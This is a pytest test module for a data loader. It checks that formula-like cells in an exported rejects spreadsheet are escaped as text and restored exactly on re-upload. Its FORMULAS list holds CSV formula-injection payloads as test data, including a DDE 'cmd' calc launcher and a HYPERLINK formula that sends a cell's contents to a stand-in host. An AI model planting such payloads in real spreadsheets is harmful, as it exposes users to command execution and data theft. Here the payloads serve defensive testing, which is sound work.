"""Rejects for a spreadsheet: nothing is computed, nothing is lost on the way there and back."""

import csv
import io
import uuid
from contextlib import closing
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Engine

from shared.datasets import DATASETS
from shared.errors import HeaderMismatch
from shared.ingest.dialect import BACKSLASH, Dialect
from shared.ingest.formulas import escaped, is_computed, taken_back
from shared.ingest.load import Loader
from shared.ingest.mend import recognise_mended, recognise_upload
from shared.ingest.rejects_file import Reason, RejectedRecord
from shared.ingest.sheet import SHEET_COLUMNS, SheetFile
from tests.conftest import Accept, Mend
from tests.rows import MOVIES_HEADER, movies, titles
from tests.shared.stored import stored
from tests.shared.test_load import never, rows, upload

# What spreadsheets compute, or have computed in some version: each must become text.
FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "'=1", "''=1", "' =1"),
    *(
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x.invalid/?"&A1,"a")',
        "=IMPORTXML(A1)",
        '@"x"',
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
    ),
)
CSV = Dialect(",", quoting=True)
REASON = Reason("title", "required", "title must not be empty", "")


def sheet_of(tmp_path: Path, content: bytes, header_bytes: int, dialect: Dialect) -> bytes:
    """The whole of `content` behind its header as one rejected record."""
    with stored(tmp_path, content) as source:
        file = SheetFile(source, header_bytes, dialect)
        return file.header() + b"".join(file.blocks([RejectedRecord(2, header_bytes, len(content), [REASON])]))


def read(sheet: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(sheet.decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_computes_becomes_text(tmp_path: Path, text: str) -> None:
    cell = '"' + text.replace('"', '""') + '"'
    _, (*_, first, second) = read(sheet_of(tmp_path, f"a,b\n{cell},fine\n".encode(), 4, CSV))
    assert (first, second) == (f"'{text}", "fine")
    assert taken_back(pa.array([first, second])).to_pylist() == [text, "fine"]


@pytest.mark.parametrize("text", ["", "A Film", "'Tis", "1-2", "a=b", "12.5", "((=", '"=1"', "_-", "'", "  "])
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert not is_computed(text.encode())
    assert taken_back(pa.array([text])).to_pylist() == [text]


@given(st.text(alphabet=st.sampled_from("=+-@'\" \t\r\na1\uff1d"), max_size=8))
def test_what_is_put_before_a_cell_is_taken_back_exactly(text: str) -> None:
    assert taken_back(pa.array([escaped(text.encode()).decode()])).to_pylist() == [text]
    assert not escaped(text.encode()).startswith((b"=", b"+", b"-", b"@", b"\t", b"\r", b"\n"))


def test_no_word_for_nothing_begins_like_a_formula() -> None:
    # Else its cell would not be null any more when it comes back.
    assert not [null for dataset in DATASETS.values() for null in dataset.nulls if is_computed(null.encode())]


@pytest.mark.parametrize(
    "dialect",
    [
        CSV,
        Dialect(";", quoting=True, quote="'", escape="'"),
        Dialect("|", quoting=True, escape=BACKSLASH),
        Dialect("\t", quoting=False),
        Dialect("^", quoting=False),
        Dialect(",", quoting=True, newline="\r"),
    ],
)
def test_any_dialect_becomes_one_that_spreadsheets_know(tmp_path: Path, dialect: Dialect) -> None:
    delimiter = dialect.delimiter
    content = f"=a{delimiter}b\n-1{delimiter}x\n".encode()
    sheet = sheet_of(tmp_path, content, content.index(b"\n") + 1, dialect)
    header, row = read(sheet, delimiter if delimiter in ";|\t" else ",")
    assert header == [*SHEET_COLUMNS, "'=a", "b"]
    assert row == ["2", "title", "required", "title must not be empty", row[4], "", "'-1", "x"]
    assert sheet.startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("record", ['"never closed,=1\n', '"a "stray" quote",=1\n', "=too,=many,=cells\n", "=few\n"])
def test_a_damaged_record_is_one_text_and_no_cells(tmp_path: Path, record: str) -> None:
    _, row = read(sheet_of(tmp_path, f"a,b\n{record}".encode(), 4, CSV))
    text = record.rstrip("\n")
    assert row[5:] == [f"'{text}" if text.startswith("=") else text, "", ""]


def test_bytes_that_are_no_text_are_shown_escaped(tmp_path: Path) -> None:
    _, row = read(sheet_of(tmp_path, b'a,b\n"\xff\x00', 4, CSV))
    assert row[5:] == ['"\\xff\\x00', "", ""]


@pytest.mark.parametrize("kind", ["movies", "titles"])
def test_a_file_comes_back_as_it_was_meant(
    engine: Engine, loader: Loader, accept: Accept, mend: Mend, kind: str
) -> None:
    texts = {"=1+1": "-5", "'=x": '"quoted", and\ttab', "-": "plain"}
    if kind == "movies":
        dirty = movies(*({"title": title, "overview": text, "budget": "x"} for title, text in texts.items()))
        parent = accept(dirty)
    else:
        dirty = titles(*({"primaryTitle": title, "originalTitle": "@y", "startYear": "x"} for title in texts))
        parent = accept(dirty, "title.basics.tsv")
    loader.load(parent, never)
    row = upload(engine, parent)
    assert row["rejected_records"] == len(texts)
    sheet = sheet_of_upload(engine, loader, parent)
    assert b",=" not in sheet
    assert b'"=' not in sheet
    wrong, right = (b'"x"', b'"5"') if kind == "movies" else (b'"x"', b'"1999"')
    mending = mend(parent, sheet.replace(wrong, right), "rejects.csv")
    loader.load(mending, never)
    assert upload(engine, mending)["state"] == "completed"
    loaded = rows(engine, "SELECT title FROM movies ORDER BY id")
    assert [title for (title,) in loaded] == list(texts)
    if kind == "movies":
        assert [text for (text,) in rows(engine, "SELECT overview FROM movies ORDER BY id")] == list(texts.values())


def sheet_of_upload(engine: Engine, loader: Loader, upload_id: uuid.UUID) -> bytes:
    row = upload(engine, upload_id)
    found = rows(
        engine, "SELECT line_number, byte_start, byte_end FROM rejects WHERE position = 0 ORDER BY line_number"
    )
    with closing(loader.storage.open(row["storage_key"])) as source:
        file = SheetFile(source, row["header_bytes"], Dialect.from_json(row["dialect"]))
        return file.header() + b"".join(
            file.blocks(RejectedRecord(line, start, end, [REASON]) for line, start, end in found)
        )


def test_a_damaged_record_that_comes_back_unmended_loads_nothing(
    engine: Engine, loader: Loader, accept: Accept, mend: Mend
) -> None:
    parent = accept(movies({}) + b'too,few\r\n"never closed\r\n' + movies({}).partition(b"\r\n")[2])
    loader.load(parent, never)
    mending = mend(parent, sheet_of_upload(engine, loader, parent))
    loader.load(mending, never)
    assert (upload(engine, mending)["loaded_records"], upload(engine, mending)["rejected_records"]) == (0, 2)
    assert upload(engine, parent)["loaded_records"] == 2


def test_a_header_must_say_which_of_both_kinds_it_is() -> None:
    assert recognise_mended([*SHEET_COLUMNS, *MOVIES_HEADER], None).name == "movies"
    assert recognise_mended(["_sheet_line", *MOVIES_HEADER], None).name == "movies"
    for header in (["_line", "_sheet_line", *MOVIES_HEADER], MOVIES_HEADER):
        with pytest.raises(HeaderMismatch, match="the header lacks _line"):
            recognise_mended(header, None)
    with pytest.raises(HeaderMismatch, match="twice: _sheet_line"):
        recognise_mended(["_sheet_line", "_sheet_line", *MOVIES_HEADER], None)
    with pytest.raises(HeaderMismatch, match="rejects of an upload"):
        recognise_upload([*SHEET_COLUMNS, *MOVIES_HEADER], None)
